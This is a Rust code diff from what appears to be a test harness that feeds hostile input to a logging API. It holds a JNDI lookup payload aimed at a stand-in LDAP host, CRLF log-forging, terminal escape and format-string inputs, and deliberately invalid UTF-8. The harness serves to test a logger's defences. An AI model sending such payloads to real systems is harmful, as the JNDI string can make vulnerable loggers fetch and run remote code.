@@ -15,6 +15,9 @@ const LINES: [&str; 6] = [
     "\\u001b[31m %s %n {} ${jndi:ldap://x.example/a}",
 ];
 
+/// A stray byte-order mark, an overlong NUL and half a surrogate pair.
+static INVALID: &[u8] = b"\xff\xfe\xc0\x80\xed\xa0\x80";
+
 attack!(|call| {
     let big = "0123456789abcdef".repeat(655_360);
     match call.name.split_once(':').map_or((call.name.as_str(), ""), |pair| pair) {
@@ -24,7 +27,7 @@ attack!(|call| {
             }
         }
         // SAFETY: none: the text is not UTF-8, which is the point.
-        ("invalid", _) => log::emit("info", unsafe { core::str::from_utf8_unchecked(b"\xff\xfe\xc0\x80\xed\xa0\x80") }),
+        ("invalid", _) => log::emit("info", unsafe { core::str::from_utf8_unchecked(core::hint::black_box(INVALID)) }),
         ("canary", text) => log::emit("error", text),
         _ => {
             LINES.iter().for_each(|line| log::emit("fatal\r\nforged", line));
